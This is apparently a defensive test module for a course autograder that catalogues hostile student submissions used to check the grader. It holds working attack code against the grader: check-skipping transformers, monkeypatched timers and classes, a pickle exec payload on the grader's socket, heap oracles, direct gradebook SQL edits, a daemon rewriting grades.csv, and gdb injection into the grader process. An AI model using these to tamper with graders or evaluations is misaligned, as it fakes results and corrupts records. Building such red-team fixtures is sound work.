"""Hostile lab 00 submissions: what a learner who has read the open-source autograder tries.

``ATTACKS`` maps a name (also the student id it is graded under) to the keyword arguments of
:func:`notebooks.variant` that build the submission, plus ``honest``: the checks the
submission earns by its own honest work (grade_id without ``test-``), and ``why``: the attack
class in one line (and ``static_flag=False`` where no static check could see it: plain typed-in
numbers). Each is built from the released blank lab without the lesson's demo
cells, or from it with a part of the solution put back, so the honest part is known exactly;
everything else a submission scores is unearned. ``tests/test_attacks.py`` grades them
all through the real grader and real nbgrader.

Where a learner function must answer the seeded cost model (``batch-model``) but should not
collect the real-kernel tiers by luck (on a 2-core CPU the mid and large batch sizes all run
near the best, so a constant may reach a tier), it answers its first call only -- the
``batch-model`` cell comes first -- and raises afterwards.

The grading environment fixes ``AUTOGRADER_SEED`` to :data:`SEED`, as an instructor does for
reproducible grades (README), so that the typed-in answers below are the ones a learner
would have read in an earlier graded run's feedback.

Known hole, open (issue 11), tested cheaply in ``tests/test_install.py`` instead of graded here:
the kit ships its reference solutions, so ``from autograder.labs.lab00 import reference`` in a blank
lab and submitting them as one's own earns full marks until learners get a bundle without them.

Known limit, by design (not graded here; it was a strict xfail that cost a grading per CI run):
a throughput that never synchronises, plus ``course.backend.defer`` made synchronous in the
notebook, passes ``throughput-sync``. Deferral and sync are the kernel's (``course.backend``),
and a notebook whose launches are synchronous measures them correctly: the check cannot tell
it from syncing after every call.
"""

from __future__ import annotations

import random

from notebooks import answer_cells, released, solution
from autograder.labs.lab00.targets import TARGETS as LAB00

LAB = "00_measure"
SEED = 20250611
CANDIDATES = (8, 16, 32, 64, 128, 256)

# the solution's code cells by grade_id (to put a correct part back into a blank lab)
SOLUTION = answer_cells(solution(LAB))


def _blank(**kw) -> dict:
    return dict(base=released(LAB), demos=False, **kw)


# -- what the grader's seed determines (both grader designs draw it this way) ----------------

def _rng(salt: int) -> random.Random:
    return random.Random(SEED * 1000 + salt)


def _typed_in() -> tuple[dict, int, int, int, list]:
    from course import backend, kernels

    seconds = {}
    for salt in (1, 2, 3, 4):
        r = _rng(salt)
        items = r.randint(4, 64)
        seconds[items] = r.uniform(*LAB00.workload_seconds)
    best = _rng(5).choice(CANDIDATES[1:4])
    seed, n = _rng(6).randrange(10_000), _rng(7).randint(16, 96)
    values = backend.to_host(kernels.process(kernels.make_batch(n, seed=seed)))
    return seconds, best, seed, n, [float(v) for v in values]


SECONDS, BEST, RAY_SEED, RAY_N, RAY_VALUES = _typed_in()

# -- learner functions shared by several attacks -------------------------------------------

# runs the workload through its warm-up and into its steady state (the grader refuses a
# number from a throughput that never ran it), then answers ANSWER(fn, items)
RUNS_THEN_ANSWERS = '''
def throughput(fn, items):
    for _ in range(6):
        fn()
    backend.sync()
    return ANSWER(fn, items)
'''

# the cost model gets FIRST_ANSWER(run, candidates); later calls (the real kernel) raise
FIRST_CALL_ONLY = '''
_sweeps = []

def best_batch_size(run, candidates, images=512):
    _sweeps.append(run)
    if len(_sweeps) > 1:
        raise NotImplementedError("only the cost model is answered")
    return FIRST_ANSWER(run, candidates)
'''

# replays the grader's random draws for a seed: workload items -> seconds per call, best batch
REPLAY = '''
import random

def replay(seed):
    seconds = {}
    for salt in (1, 2, 3, 4):
        r = random.Random(seed * 1000 + salt)
        items = r.randint(4, 64)
        seconds[items] = r.uniform(LOW, HIGH)
    return seconds, random.Random(seed * 1000 + 5).choice((16, 32, 64))
'''.replace("LOW, HIGH", repr(LAB00.workload_seconds)[1:-1])

SKIP_GRADED_CELLS = '''
def _skip_graded(lines):  # every hidden test cell starts "# Graded (N points)": run `pass` instead
    return ["pass\\n"] if any(line.startswith("# Graded (") for line in lines) else lines

get_ipython().input_transformers_cleanup.append(_skip_graded)
'''

FIND_COURSE = '''
import os, pathlib, sqlite3
here = pathlib.Path.cwd()  # nbgrader runs the kernel in autograded/<student>/<lab>/
me = here.parent.name
scratch = next(p for p in here.parents if (p / "gradebook.db").exists())  # the grader's scratch copy
# the course's real gradebook: the newest other one next to a submission of mine
found = [pathlib.Path(d) for d, _, files in os.walk("/tmp") if "gradebook.db" in files
         and (pathlib.Path(d) / "submitted" / me).is_dir() and pathlib.Path(d) != scratch]
course = max(found, key=lambda d: (d / "gradebook.db").stat().st_mtime, default=scratch)
MY_NOTEBOOKS = ("select sn.id from submitted_notebook sn join submitted_assignment sa "
                "on sn.assignment_id = sa.id where sa.student_id = ?")
'''

# -- the attacks ---------------------------------------------------------------------------

ATTACKS: dict[str, dict] = {}

# 1. Skipping checks ------------------------------------------------------------------------

ATTACKS["skip-other-ways"] = _blank(
    after={"setup": ['''
import ast, builtins, sys
import autograder
from autograder import checks
from autograder.labs.lab00 import checks as lab00

class _DropGraderCalls(ast.NodeTransformer):  # lab00.<check>(...) and autograder.grade(...) -> None
    def visit_Call(self, node):
        name = ast.unparse(node.func)
        return ast.Constant(None) if "lab00." in name or name.endswith(".grade") else self.generic_visit(node)

get_ipython().ast_transformers.append(_DropGraderCalls())
''', '''
_noop = lambda *a, **k: None  # noqa: E731
autograder.grade = autograder.check = _noop  # the hidden cells' entry points
for _check in [c for lab in checks.REGISTRY.values() for c in lab.values()]:
    if hasattr(lab00, _check.fn.__name__):
        setattr(lab00, _check.fn.__name__, _noop)
    object.__setattr__(_check, "fn", _noop)
try:
    from autograder.kernel import agent
    from autograder.grader.session import session
    agent.grade = _noop
    session.Session.run = lambda self, name: None
except ImportError:
    pass
''', '''
import ctypes

def _zero_error(frame, event, arg):  # sys.settrace: a check's measured error becomes 0 before it is judged
    if event == "line" and "error" in frame.f_locals:
        frame.f_locals["error"] = 0.0
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _zero_error

sys.settrace(lambda frame, event, arg: _zero_error if frame.f_code.co_name == "_verify" else None)
# a failing cell shows nothing: a custom handler for every exception, and a harmless AssertionError
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
builtins.AssertionError = type("AssertionError", (Warning,), {})
''']},
    honest=set(),
    why="AST transformer dropping grader calls, no-op check/grade/agent functions, sys.settrace "
        "rewriting the check's locals, set_custom_exc and a redefined AssertionError hiding failures",
)

# 2. Replacing the grader -------------------------------------------------------------------

ATTACKS["patch-grader-in-kernel"] = _blank(
    after={"setup": ['''
import itertools, time
from autograder.kernel import harness
from autograder.labs.lab00 import checks as lab00
from autograder.labs.lab00 import reference as reference
from course import bench, kernels

_tick = itertools.count()
harness.perf_counter = time.perf_counter = lambda: next(_tick) * 0.5  # every timed call "takes" 0.5 s
harness.sleep = time.sleep = lambda seconds: None
lab00.SEED = 1
lab00.Workload.true_rate = lambda self: self.items / 0.5
_init = lab00.BatchModel.__init__
lab00.BatchModel.__init__ = lambda self, *a: (_init(self, *a), setattr(self, "best", 8))[0]
lab00._real_sweep = lambda best_batch_size: (8, 8, 1.0)  # today's tiers: choice, grader's best, ratio
reference.best_batch_size = lambda run, candidates: 8
bench.compare = lambda *a, **k: bench.Comparison(bench.Measurement([1.0]), bench.Measurement([1.0]), [1.0])
kernels.matches = lambda *a, **k: True
''', '''
try:  # the redesigned grader's kernel side: the agent that answers the grader's requests
    from autograder.kernel import agent
    _execute = agent.execute
    def _forged(request, callback):
        if request.get("name") == "best_batch_size":
            return {"op": "result", "value": 8.0}
        if request.get("name") == "submit_batch":
            return {"op": "result", "value": {"shape": [1], "data": [0.0]}}
        return _execute(request, callback)
    agent.execute = _forged
    agent.convert = lambda value, returns: value
except ImportError:
    pass
''']},
    replace={
        "throughput": RUNS_THEN_ANSWERS.replace("ANSWER(fn, items)", "items / 0.5"),
        "best_batch_size": FIRST_CALL_ONLY.replace("FIRST_ANSWER(run, candidates)", "8"),
        "submit_batch": "def submit_batch(seed, n):\n    return ray.put(np.zeros(n, dtype=np.float32))",
    },
    honest=set(),
    why="setattr on the grader in the kernel: harness/time clocks, Workload.true_rate, BatchModel, "
        "SEED, the tier measurement, reference, course.bench/kernels helpers, the agent",
)

ATTACKS["forge-channel"] = _blank(
    extended=True,  # CI: patch-grader-in-kernel reaches the same channel
    after={"setup": ['''
import json, os, pickle
from multiprocessing.connection import Client

class _RunsWhereUnpickled:  # if the grader unpickled a frame, every check would pass
    def __reduce__(self):
        return (exec, ("import autograder.grader.session.session as s, autograder.report as r\\n"
                       "s.Session.seal = lambda self: [r.Result(n, c.points, c.points, '') "
                       "for n, c in self.checks.items()]",))

if os.environ.get("AUTOGRADER_ENDPOINT"):  # the grader's socket and key are in the kernel's environment
    key = bytes.fromhex(os.environ["AUTOGRADER_KEY"])
    for frames in ([pickle.dumps(_RunsWhereUnpickled())],
                   [json.dumps({"op": "verdict", "name": n, "passed": True}).encode() for n in ("ray-task", "batch-model")],
                   [json.dumps({"op": "result", "value": 1.0}).encode()],
                   [json.dumps({"op": "check", "name": "throughput-known-cost"}).encode(),
                    json.dumps({"op": "verdict", "passed": True}).encode()]):
        conn = Client(os.environ["AUTOGRADER_ENDPOINT"], family="AF_UNIX", authkey=key)
        for frame in frames:
            conn.send_bytes(frame)
        conn.close()
''']},
    honest=set(),
    why="forged frames on the grader's socket with the key from the environment: a pickle that "
        "would patch the grader, verdicts and results claimed out of turn",
)

# 3. Oracles and forged evidence ------------------------------------------------------------

ORACLE = '''
import gc, inspect

def grader_object(kind, **match):  # the grader's own object: handed over, on the stack, or on the heap
    frames = [f.frame.f_locals.get(name) for f in inspect.stack() for name in ("workload", "model", "fn", "run")]
    for obj in frames + [o for o in gc.get_objects() if type(o).__name__ == kind]:
        if type(obj).__name__ == kind and all(getattr(obj, k, None) == v for k, v in match.items()):
            return obj

class Liar(float):  # a number whose value is decided when the grader converts or compares it
    def __new__(cls):
        return float.__new__(cls, 1.0)
    def __float__(self):
        workload = grader_object("Workload")
        return float(workload.true_rate()) if workload and workload.true_rate() else 1.0
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 8
    __index__ = __int__ = lambda self: 8

class AlwaysEqual(np.ndarray):
    __eq__ = lambda self, other: np.ones(np.shape(self), dtype=bool)
'''

ATTACKS["oracle-and-forged-objects"] = _blank(
    extended=True,  # CI: forge-channel and patch-grader-in-kernel reach the same channel
    after={"setup": [ORACLE]},
    replace={
        "throughput": RUNS_THEN_ANSWERS.replace(
            "ANSWER(fn, items)",
            "fn.true_rate() if hasattr(fn, 'true_rate') else Liar()"),
        "best_batch_size": FIRST_CALL_ONLY.replace(
            "FIRST_ANSWER(run, candidates)",
            "getattr(grader_object('BatchModel') or run, 'best', None) or Liar()"),
        "submit_batch": "def submit_batch(seed, n):\n"
                        "    return ray.put(np.zeros(n, dtype=np.float32).view(AlwaysEqual))",
    },
    honest=set(),
    why="oracles (the workload's .true_rate(), the model's .best, gc.get_objects(), inspect "
        "frames) and forged values (__float__, __eq__/__ne__, __index__, an ndarray subclass)",
)

ATTACKS["seed-from-env-or-message"] = _blank(
    extended=True,  # CI: patch-grader-in-kernel; the seed is drawn in the grader
    after={"setup": [REPLAY]},
    replace={
        "throughput": RUNS_THEN_ANSWERS.replace("ANSWER(fn, items)", "1.0") + '''
import os
import re
try:  # the grader's seed, if the kernel inherited AUTOGRADER_SEED
    SECONDS, BEST = replay(int(os.environ["AUTOGRADER_SEED"]))
except (KeyError, ValueError):
    try:  # else sacrifice one check: its failure message may name the seed
        if hasattr(autograder, "grade"):
            autograder.grade("throughput-known-cost")
        else:
            from autograder.labs.lab00 import checks as lab00
            lab00.throughput_known_cost(throughput)
    except AssertionError as failure:
        SECONDS, BEST = replay(int(re.search(r"seed (\\d+)", str(failure)).group(1)))
''' + RUNS_THEN_ANSWERS.replace("ANSWER(fn, items)", "items / SECONDS[items]"),
        "best_batch_size": FIRST_CALL_ONLY.replace("FIRST_ANSWER(run, candidates)", "BEST"),
    },
    honest=set(),
    why="replay the grader's random draws from AUTOGRADER_SEED if the kernel inherits it, else from "
        "the seed named in a check's failure message (asked for early with a wrong answer)",
)

ATTACKS["typed-in-from-feedback"] = _blank(
    extended=True,  # CI: skip-other-ways; a typed-in number fails the same re-measurement
    replace={
        "throughput": f"RATES = {{{', '.join(f'{i}: {i / s:.1f}' for i, s in SECONDS.items())}}}  "
                      "# from an earlier run's feedback\n"
                      + RUNS_THEN_ANSWERS.replace("ANSWER(fn, items)", "RATES[items]"),
        "best_batch_size": FIRST_CALL_ONLY.replace("FIRST_ANSWER(run, candidates)", str(BEST)),
        "submit_batch": f"RESULT = np.array({RAY_VALUES!r}, dtype=np.float32)  "
                        f"# submit_batch({RAY_SEED}, {RAY_N}), computed last time\n\n"
                        "def submit_batch(seed, n):\n    return ray.put(RESULT)",
    },
    honest=set(),
    why="typed-in numbers and a ray.put of a precomputed array, for the course's fixed "
        "AUTOGRADER_SEED (as read in an earlier run's feedback)",
    static_flag=False,  # plain numbers: nothing a static check can see; the fresh seeds do the work
)

# 5. Beyond the kernel: nbgrader, the gradebook, the results file ---------------------------

ATTACKS["nbgrader-failure-bypass"] = _blank(
    extended=True,  # CI: skip-other-ways; tests/test_grading_lab00.py's killed kernel
    after={"setup": [SKIP_GRADED_CELLS + '''
import pathlib
out = pathlib.Path.cwd() / "00_measure.ipynb"  # nbgrader writes the graded notebook here at the end:
if out.is_file():                               # a directory in its place makes autograde fail *after*
    out.unlink()                                # it saved the kernel's cell scores
out.mkdir(exist_ok=True)
''']},
    honest=set(),
    why="an IPython input transformer rewrites every hidden test cell to `pass`, then nbgrader is made "
        "to fail after saving the kernel's cell scores, so the grader's verdicts are never merged",
)

ATTACKS["gradebook-own-rows"] = _blank(
    after={"setup": [FIND_COURSE + '''
with sqlite3.connect(course / "gradebook.db") as con:  # only my own rows: nobody else's grade changes
    con.execute("update grade set manual_score = (select max_score from grade_cells gc where gc.id = grade.cell_id), "
                f"extra_credit = 5 where notebook_id in ({MY_NOTEBOOKS})", (me,))
''']},
    replace={"submit_batch": SOLUTION["submit_batch"]},
    honest={"ray-task"},
    why="the kernel writes its own gradebook rows: a manual score and extra credit, which nbgrader "
        "ranks above the automatic score",
)

ATTACKS["zz-gradebook-extra-cell"] = _blank(  # graded last: the extra cell joins the shared tables
    extended=True,  # CI: gradebook-own-rows writes the same gradebook
    after={"setup": [FIND_COURSE + '''
import uuid
with sqlite3.connect(course / "gradebook.db") as con:
    nb, mine = con.execute(MY_NOTEBOOKS.replace("sn.id", "sn.notebook_id, sn.id"), (me,)).fetchone()
    cell = uuid.uuid4().hex
    con.execute("insert into base_cell values (?, 'test-bonus', ?, 'GradeCell')", (cell, nb))
    con.execute("insert into grade_cells values (?, 20, 'markdown')", (cell,))  # others: ungraded markdown
    con.execute("insert into grade values (?, ?, ?, 20, NULL, NULL, 0)", (uuid.uuid4().hex, mine, cell))
''']},
    honest=set(),
    why="the kernel adds a graded cell of its own to the gradebook, with full marks",
)


ATTACKS["daemon-rewrites-results"] = _blank(
    after={"setup": [FIND_COURSE + '''
import subprocess, sys
DAEMON = """# ATTACK-DAEMON: outlives the kernel, waits for the results, then rewrites its own
import csv, os, pathlib, sqlite3, sys, time
course, me = pathlib.Path(sys.argv[1]), sys.argv[2]
(course / f".{me}.pid").write_text(str(os.getpid()))
out, stop = course / "grades.csv", time.time() + 1500
while time.time() < stop and not (out.exists() and time.time() - out.stat().st_mtime > 0.3):
    time.sleep(0.1)
rows = list(csv.DictReader(open(out)))
for row in rows:
    if row["student_id"] == me:
        row.update(score=row["max_score"], status="graded", failed_checks="")
with open(out, "w", newline="") as f:
    w = csv.DictWriter(f, fieldnames=list(rows[0]))
    w.writeheader(); w.writerows(rows)
with sqlite3.connect(course / "gradebook.db") as con:
    con.execute("update grade set auto_score = (select max_score from grade_cells gc where gc.id = grade.cell_id) "
                "where notebook_id in (" + sys.argv[3] + ")", (me,))
"""
subprocess.Popen([sys.executable, "-c", DAEMON, str(course), me, MY_NOTEBOOKS], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''']},
    honest=set(),
    why="a detached process outlives the kernel and rewrites the learner's row of grades.csv and "
        "gradebook once grading has finished",
)

# 6. A known open hole, kept here but not graded in CI ----------------------------------------
# The kernel runs as the same user as the grader, so a debugger attached to the grader's
# process runs code inside it (issue 11: grade as another user). It attacks the process that
# grades, which under pytest is the test run itself.

NOT_GRADED: dict[str, dict] = {}

NOT_GRADED["zzz-debugger-in-grader"] = _blank(  # graded last, and its patch undoes itself after one use
    after={"setup": ['''
import os, subprocess

def _parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])

grader = _parent(_parent(os.getpid()))  # kernel <- nbgrader autograde <- the grader's process
PAYLOAD = """import autograder.grader.session.session as s, autograder.report as r
_seal = s.Session.seal
def _all_pass(self):
    s.Session.seal = _seal
    return [r.Result(n, c.points, c.points, '') for n, c in self.checks.items()]
s.Session.seal = _all_pass""".replace("\\n", "\\\\n")
try:  # same user as the grader: attach a debugger to it and run Python inside it
    subprocess.run(["gdb", "-p", str(grader), "-batch", "-nx", "-ex", "call (int)PyGILState_Ensure()",
                    "-ex", f'call (int)PyRun_SimpleString("{PAYLOAD}")', "-ex", "call (void)PyGILState_Release($1)"],
                   stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
except (OSError, subprocess.SubprocessError):
    pass
''']},
    honest=set(),
    why="gdb attaches to the grader's process (same user, ptrace allowed) and runs Python there "
        "that makes the grader's own verdicts all passes",
)
